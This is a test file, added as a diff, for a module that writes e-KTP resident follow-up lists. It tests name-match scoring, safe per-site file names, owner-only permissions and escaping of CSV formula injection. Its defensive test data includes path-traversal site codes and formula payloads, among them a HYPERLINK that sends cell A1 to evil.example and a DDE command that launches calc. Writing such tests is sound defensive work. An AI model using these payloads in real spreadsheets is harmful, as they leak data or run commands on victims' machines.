@@ -1,0 +1,261 @@
+"""Follow-up helpers without a warehouse: suggestion scoring, the CSV files (names, cells, permissions), the off
+switch."""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import re
+import shutil
+import stat
+import uuid
+from pathlib import Path
+from types import SimpleNamespace
+
+import pytest
+from ektp.outputs import followup
+from ektp.outputs.followup import FORMULA_TRIGGERS, Candidates, Query, site_file_name, suggest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+
+def _cands(*rows):
+    c = Candidates()
+    for nik, name, birth, sex, kel in rows:
+        c.nik.append(nik)
+        c.full_name.append(name)
+        c.birth_date.append(birth)
+        c.sex.append(sex)
+        c.kelurahan_code.append(kel)
+    return c
+
+
+CANDS = _cands(
+    ("3174014409080009", "Siti Aminah", "2008-09-04", "P", "31.74.01.1001"),
+    ("3174014409080010", "Dewi Lestari", "2008-09-04", "P", "31.74.01.1002"),  # same day, same kecamatan
+    ("3174011203900003", "Siti Aminah", "1990-03-12", "P", "31.74.01.1001"),  # a namesake, older
+    ("3174050101070001", "Budi Santoso", "2007-01-01", "L", "31.74.05.1003"),
+)
+
+
+def test_a_swapped_pair_finds_the_resident_first():
+    q = Query(("f.csv", 1), "3174014490080009", "Siti Aminah", "2008-09-04", "P", "31.74.01.1001")
+    (ranked,) = suggest([q], CANDS).values()
+    assert [CANDS.nik[i] for i, _ in ranked] == ["3174014409080009", "3174011203900003"]
+    assert ranked[0][1] == 100.0  # same name, birth date and sex, NIK one typo away
+    assert ranked[1][1] == 75.0  # the namesake of the same kelurahan is a lead, well below
+
+
+def test_a_stranger_gets_no_suggestion():
+    q = Query(("f.csv", 2), "3174014409080011", "Rahmat Hidayat", "2008-09-04", "L", "31.74.01.1002")
+    assert suggest([q], CANDS) == {("f.csv", 2): []}
+
+
+def test_without_a_birth_date_the_kelurahan_still_finds_the_resident():
+    q = Query(("f.csv", 3), "317405010107001", "Budi Santoso", None, "L", "31.74.05.1003")
+    (ranked,) = suggest([q], CANDS).values()
+    assert [CANDS.nik[i] for i, _ in ranked] == ["3174050101070001"]
+    assert ranked[0][1] == 80.0  # name, sex, one digit dropped
+
+
+def test_suggestions_are_deterministic_and_bounded():
+    twins = _cands(*[(f"31740144090800{i:02d}", "Siti Aminah", "2008-09-04", "P", "31.74.01.1001")
+                     for i in range(10, 16)])
+    q = Query(("f.csv", 4), "3174014409080099", "Siti Aminah", "2008-09-04", "P", "")
+    (ranked,) = suggest([q], twins).values()
+    assert [twins.nik[i] for i, _ in ranked] == ["3174014409080010", "3174014409080011", "3174014409080012"]
+
+
+_PORTABLE_NAME = re.compile(r"[A-Za-z0-9_][A-Za-z0-9._~-]*\.csv")
+_HOSTILE_CODES = ["A" * 300, "ä" * 300, "RW 01/02", "RW_01_02", "RW 01_02", "RW-01-02", "..", ".",
+                  "../../etc/passwd", "/", "a/b", "a\\b", "SITE\x01\x7f", "SITE\u200b", "\U0001f3eb SMA 1",
+                  "\U0001f3eb", "", " ", "_no_site", "abc", "ABC", "Abc", "CON", "con", "NUL.txt", "X.", "-rf",
+                  ".hidden", "~", "x" * 64, "X" * 64, "X" * 65, "RW_01_02~" + "0" * 32]
+
+
+def test_site_file_names():
+    assert site_file_name("SMA-LABSCHOOL-KEBAYORAN") == "SMA-LABSCHOOL-KEBAYORAN.csv"  # a plain code is its name
+    assert site_file_name("") == "_no_site.csv"
+    assert site_file_name("RW 01/02").startswith("RW_01_02~")
+    assert site_file_name("../../etc/passwd").startswith("etc_passwd~")
+    assert site_file_name("\U0001f3eb").startswith("_~")
+    assert site_file_name("A" * 300) == "A" * 40 + "~" + hashlib.sha256(b"A" * 300).hexdigest()[:32] + ".csv"
+    assert site_file_name("A" * 300) == site_file_name("A" * 300)  # the same name in every run
+
+
+def _checked_names(codes: list[str]) -> list[str]:
+    names = [site_file_name(c) for c in codes]
+    for name in names:
+        assert len(name.encode()) <= 100 and _PORTABLE_NAME.fullmatch(name), name
+        assert not re.fullmatch(r"(CON|PRN|AUX|NUL|COM\d|LPT\d)(\..*)?", name, re.I)
+    assert len({n.casefold() for n in names}) == len(set(codes)), "two codes share a file (on a case-blind disk)"
+    return names
+
+
+def test_hostile_site_codes_get_short_distinct_portable_names():
+    _checked_names(_HOSTILE_CODES)
+
+
+@given(st.lists(st.one_of(st.text(), st.text(alphabet="aA0._-/ ~"), st.sampled_from(_HOSTILE_CODES)),
+                unique=True, max_size=30))
+@settings(max_examples=300, deadline=None)
+def test_site_file_names_are_short_distinct_and_portable(codes):
+    _checked_names(codes)
+
+
+@given(st.text())
+@settings(max_examples=500, deadline=None)
+def test_spreadsheet_text_never_starts_a_formula(text):
+    cell = followup.spreadsheet_text(text)
+    assert not cell.startswith(followup.FORMULA_TRIGGERS)
+    assert cell in (text, "'" + text)  # only marked, never changed
+    assert followup.spreadsheet_text(None) == ""
+
+
+_FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+2", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
+             "=cmd|' /C calc'!A0", "\uff1d1+1", "-1"]
+_TEXT = st.one_of(st.text(), st.sampled_from(_FORMULAS), st.sampled_from(FORMULA_TRIGGERS).map(lambda c: c + "1+1"))
+
+
+def _row(**values) -> SimpleNamespace:
+    """A row of one of the warehouse's follow-up lists (every column any list has)."""
+    base = dict.fromkeys(["site_code", "site_name", "file_path", "row_number", "line_number", "recorded_at",
+                          "operator_id", "batch_id", "nik", "full_name", "birth_date", "sex", "kelurahan_code",
+                          "kelurahan_code_captured", "first_reason", "reasons", "captured_text", "differs",
+                          "extract_full_name", "extract_birth_date", "extract_sex", "extract_kelurahan_code"])
+    return SimpleNamespace(**{**base, "row_number": 1, "line_number": 2, **values})
+
+
+def _read_cells(folder: Path) -> dict[str, list[list[str]]]:
+    out = {}
+    for f in sorted(folder.iterdir()):
+        with f.open(encoding=followup.CSV_ENCODING, newline="") as fh:
+            out[f.name] = list(csv.reader(fh))
+    return out
+
+
+@given(site=_TEXT, name=_TEXT, who=_TEXT, batch=_TEXT, captured=_TEXT, reasons=_TEXT, nik=_TEXT)
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+def test_no_cell_of_a_written_list_starts_a_formula(tmp_path, site, name, who, batch, captured, reasons, nik):
+    """Device text in every free-text column, through the real writer, read back as a spreadsheet reads CSV."""
+    texts = {"site_code": site, "site_name": name, "operator_id": who, "batch_id": batch, "nik": nik,
+             "full_name": name, "kelurahan_code": captured, "first_reason": reasons, "reasons": reasons,
+             "recorded_at": captured, "captured_text": captured, "birth_date": captured, "sex": who,
+             "file_path": f"batches/2027-01-11/{name}.csv"}
+    lists = {"sites": [site], "redo": [_row(**texts)],
+             "identity_mismatch": [_row(**{**texts, "recorded_at": None, "birth_date": None, "differs": reasons,
+                                           "extract_full_name": name, "extract_sex": who,
+                                           "extract_kelurahan_code": captured})],
+             "not_in_extract": [_row(**{**texts, "recorded_at": None, "birth_date": None,
+                                        "kelurahan_code_captured": captured})],
+             "suggestions": {}}
+    folder = tmp_path / f"followup-{uuid.uuid4().hex}" / "2027-01-11"
+    followup._write_csvs(folder, lists)
+    (rows,) = _read_cells(folder).values()
+    assert len(rows) == 4 and rows[0] == followup.CSV_COLUMNS
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(followup.FORMULA_TRIGGERS), cell
+    redo = dict(zip(rows[0], rows[1], strict=True))
+    shown = {**{c: v for c, v in texts.items() if c in followup.CSV_COLUMNS}, "reason": reasons,
+             "details": f"{reasons}; captured: {captured}"}
+    for column, value in shown.items():  # the value is all there, behind the mark
+        assert redo[column] in (value, "'" + value), column
+    shutil.rmtree(folder.parent)
+
+
+def _lists(sites: list[str]) -> dict:
+    return {"sites": sites, "redo": [_row(site_code=s, nik="3174022308900001", full_name="Budi") for s in sites],
+            "identity_mismatch": [], "not_in_extract": [], "suggestions": {}}
+
+
+def test_lists_of_hostile_site_codes_are_written_owner_only(tmp_path, umask_0):
+    folder = tmp_path / "reports" / "followup" / "2027-01-11"
+    written = followup._write_csvs(folder, _lists(_HOSTILE_CODES))
+    assert sorted(p.name for p in written) == sorted(p.name for p in folder.iterdir())
+    assert len(written) == len(set(_HOSTILE_CODES))
+    for path in written:
+        (_, row) = _read_cells(folder)[path.name][:2]
+        assert site_file_name(row[1].removeprefix("'")) == path.name  # each site's rows in its own file
+    for path in [tmp_path / "reports", folder.parent, folder, *written]:
+        assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600), path
+    assert sorted(p.name for p in folder.parent.iterdir()) == [".lock", "2027-01-11"]  # no .tmp, no .old
+
+    followup._write_csvs(folder, _lists(["ONLY-ONE"]))  # a republished date replaces the whole folder
+    assert [p.name for p in folder.iterdir()] == ["ONLY-ONE.csv"]
+    assert sorted(p.name for p in folder.parent.iterdir()) == [".lock", "2027-01-11"]
+
+
+class _FailingWriter(csv.DictWriter):
+    rows = 0
+
+    def writerow(self, rowdict):
+        type(self).rows += 1
+        if type(self).rows > 3:
+            raise OSError(28, "No space left on device")
+        return super().writerow(rowdict)
+
+
+def test_a_failed_write_leaves_no_folder_with_niks_and_keeps_the_last_lists(tmp_path, monkeypatch):
+    folder = tmp_path / "followup" / "2027-01-11"
+    followup._write_csvs(folder, _lists(["A", "B"]))
+    before = _read_cells(folder)
+    monkeypatch.setattr(followup.csv, "DictWriter", _FailingWriter)  # the disk fills up half way
+    with pytest.raises(OSError, match="No space"):
+        followup._write_csvs(folder, _lists(["A", "B", "C", "D"]))
+    assert sorted(p.name for p in folder.parent.iterdir()) == [".lock", "2027-01-11"]
+    assert _read_cells(folder) == before
+
+
+def test_reports_off_skips_everything(tmp_path, monkeypatch):
+    from ektp.airflow import tasks
+
+    never = tmp_path / "never.sqlite"
+    monkeypatch.setenv("AIRFLOW_CONN_EKTP_WAREHOUSE", f"sqlite:///{never}")
+    monkeypatch.setenv("EKTP_REPORT_DIR", str(tmp_path / "reports"))
+    for value in ("off", "OFF", "0", "false", "no"):
+        monkeypatch.setenv("EKTP_REPORTS", value)
+        assert not followup.reports_enabled()
+        assert tasks.write_coverage_report({"report_date": "2026-11-02", "published_dates": ["2026-11-02"]},
+                                           None) == {"skipped": True}
+    assert not never.exists() and not (tmp_path / "reports").exists()
+    monkeypatch.setenv("EKTP_REPORTS", "on")
+    assert followup.reports_enabled()
+    monkeypatch.delenv("EKTP_REPORTS")
+    assert followup.reports_enabled()
+
+
+# --- suggestions a block at a time (the warehouse streams the candidates by birth date, then by kelurahan) ---
+
+_DAYS = ["2008-09-04", "2008-09-05", "1990-03-12"]
+_KELURAHAN = ["31.74.01.1001", "31.74.01.1002", "31.74.05.1003"]
+_NAMES = ["Siti Aminah", "Siti Aminah Putri", "Dewi Lestari", "Budi Santoso", "Budi Santosa"]
+
+
+def _blocks_of(cands: Candidates) -> list[tuple[str, str, Candidates]]:
+    """Every candidate in its birth-date block and its kelurahan block, in the order the SQL sends them."""
+    rows = list(zip(cands.nik, cands.full_name, cands.birth_date, cands.sex, cands.kelurahan_code, strict=True))
+    blocks = []
+    for kind, column in (("b", 2), ("k", 4)):
+        for value in sorted({r[column] for r in rows}):
+            blocks.append((kind, value, _cands(*[r for r in rows if r[column] == value])))
+    return blocks
+
+
+@given(residents=st.lists(st.tuples(st.sampled_from(_NAMES), st.sampled_from(_DAYS), st.sampled_from("LP"),
+                                    st.sampled_from(_KELURAHAN)), max_size=25),
+       captured=st.lists(st.tuples(st.sampled_from(_NAMES), st.sampled_from([*_DAYS, None]),
+                                   st.sampled_from(["L", "P", None]), st.sampled_from([*_KELURAHAN, None]),
+                                   st.integers(0, 30)), min_size=1, max_size=6),
+       limit=st.integers(1, 4))
+@settings(max_examples=150, deadline=None)
+def test_suggestions_a_block_at_a_time_are_those_of_all_candidates_at_once(residents, captured, limit):
+    cands = _cands(*[(f"3174{k:012d}", name, day, sex, kel) for k, (name, day, sex, kel) in enumerate(residents)])
+    # a query's NIK: a resident's, or one digit off, or nobody's
+    queries = [Query(("f.csv", n), f"3174{k:012d}" if k % 3 else f"3174{k + 1:012d}", name, day, sex, kel)
+               for n, (name, day, sex, kel, k) in enumerate(captured)]
+    at_once = {key: [(cands.nik[i], score) for i, score in ranked]
+               for key, ranked in suggest(queries, cands, limit, min_score=50.0).items()}
+    in_blocks = {key: [(r.nik, score) for r, score in ranked]
+                 for key, ranked in followup.suggest_in_blocks(queries, _blocks_of(cands), limit, 50.0).items()}
+    assert in_blocks == at_once
